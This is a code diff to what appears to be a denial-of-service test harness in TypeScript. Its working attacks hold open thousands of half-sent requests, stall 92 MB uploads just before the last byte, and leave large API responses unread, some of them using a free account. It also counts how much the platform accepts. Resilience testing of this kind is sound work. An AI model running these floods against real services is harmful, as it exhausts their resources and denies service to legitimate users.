@@ -4,6 +4,8 @@ import { setTimeout as delay } from 'node:timers/promises'
 import { ATTACKER_ADDRESS, callFrom } from './call-from.ts'
 import { type Attack, createSealed, type Outcome, type Victim } from './flood.ts'
 
+const MIB = 1024 * 1024
+
 const socketTo = (base: string): Promise<Socket | undefined> => {
   const { hostname, port } = new URL(base)
   return new Promise((resolve) => {
@@ -12,6 +14,13 @@ const socketTo = (base: string): Promise<Socket | undefined> => {
     socket.on('error', () => resolve(undefined))
   })
 }
+
+/** What the buffers of both sides take although nothing is read. */
+const KERNEL_MB = 8
+
+/** What the platform has read of the bytes, at least. */
+const countAcceptedMb = ({ bytesWritten, writableLength }: Socket): number =>
+  Math.max(0, Math.floor((bytesWritten - writableLength) / MIB) - KERNEL_MB)
 
 /**
  * Opens sockets, does the same on each and keeps them for the time of the attack; counts those that the platform ended.
@@ -31,33 +40,56 @@ const hold = async (
   )
   await delay(Math.max(0, end - performance.now()))
   const ended = sockets.filter(({ destroyed, readableEnded }) => destroyed || readableEnded).length
+  const answered = sockets.filter(({ bytesRead }) => bytesRead > 0).length
+  const acceptedMb = sockets.reduce((sum, socket) => sum + countAcceptedMb(socket), 0)
   for (const socket of sockets) socket.destroy()
-  return { opened: sockets.length, ended }
+  return { opened: sockets.length, answered, ended, 'accepted MB': acceptedMb }
 }
 
-const MIB = 1024 * 1024
 const chunk = Buffer.alloc(MIB, 'A')
 /** Nearly as much as the route accepts. */
 const UPLOAD_BYTES = 92_000_000
 
+const sendAs =
+  ({ apiUrl, token }: Victim['attacker']) =>
+  (method: string, path: string, body?: object) =>
+    callFrom(ATTACKER_ADDRESS, apiUrl, method, path, { token, ...(body && { body }) })
+
+const findFieldId = async (attacker: Victim['attacker'], slug: string): Promise<string | undefined> => {
+  const fields: Array<{ id: string; slug: string }> = JSON.parse(
+    (await sendAs(attacker)('GET', '/api/contact-fields')).text,
+  )
+  return fields.find((field) => field.slug === slug)?.id
+}
+
+const addDocument = async (attacker: Victim['attacker']): Promise<string> => {
+  const contact_field_id = await findFieldId(attacker, 'document')
+  return JSON.parse((await sendAs(attacker)('POST', '/api/contact-data', { contact_field_id })).text).id
+}
+
 const uploads: Attack = {
   name: '20 bodies of 92 MB by one free account, held open before their last byte',
-  run: ({ attacker }, seconds) =>
-    hold(20, seconds, attacker.apiUrl, async (socket) => {
+  effects: ['accepted MB'],
+  async run({ attacker }, seconds) {
+    // A body for a datum that does not exist is refused unread.
+    const datumId = await addDocument(attacker)
+    return hold(20, seconds, attacker.apiUrl, async (socket) => {
       socket.on('data', () => undefined)
       socket.write(
-        `PUT /api/contact-data/${attacker.userId}/file HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${attacker.token}\r\n` +
+        `PUT /api/contact-data/${datumId}/file HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${attacker.token}\r\n` +
           `Content-Type: application/json\r\nContent-Length: ${UPLOAD_BYTES}\r\n\r\n{"file":"`,
       )
       for (let index = 0; index < Math.floor(UPLOAD_BYTES / MIB) && !socket.destroyed; index += 1) {
         if (!socket.write(chunk))
           await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), delay(2_000)])
       }
-    }),
+    })
+  },
 }
 
 const unreadResponses: Attack = {
   name: '100 callers who ask for large answers and do not read them',
+  effects: ['answered'],
   run: ({ frontDoor }, seconds) =>
     hold(100, seconds, frontDoor, (socket) => {
       socket.pause()
@@ -67,6 +99,7 @@ const unreadResponses: Attack = {
 
 const halfRequests: Attack = {
   name: '2,000 connections with half a request',
+  effects: ['opened'],
   run: ({ region }, seconds) =>
     hold(2_000, seconds, region, (socket) => {
       socket.on('data', () => undefined)
@@ -78,11 +111,9 @@ const LARGEST_VALUE_BYTES = 48_000
 const MAX_ROWS = 500
 
 /** Fills the list to its quota; refused calls are repeated when the platform allows it. */
-const fillContactData = async ({ attacker: { apiUrl, token } }: Victim): Promise<void> => {
-  const send = (method: string, path: string, body?: object) =>
-    callFrom(ATTACKER_ADDRESS, apiUrl, method, path, { token, ...(body && { body }) })
-  const fields: Array<{ id: string; slug: string }> = JSON.parse((await send('GET', '/api/contact-fields')).text)
-  const contact_field_id = fields.find(({ slug }) => slug === 'phone')?.id
+const fillContactData = async ({ attacker }: Victim): Promise<void> => {
+  const send = sendAs(attacker)
+  const contact_field_id = await findFieldId(attacker, 'phone')
   for (let rowCount = 0; rowCount < MAX_ROWS; ) {
     const { status } = await send('POST', '/api/contact-data', {
       contact_field_id,
@@ -96,6 +127,7 @@ const fillContactData = async ({ attacker: { apiUrl, token } }: Victim): Promise
 
 const unreadLists: Attack = {
   name: '30 readers of a full list of contact data who do not read their answers, by one free account',
+  effects: ['answered'],
   prepare: fillContactData,
   run: ({ attacker: { apiUrl, token } }, seconds) =>
     hold(30, seconds, apiUrl, (socket) => {
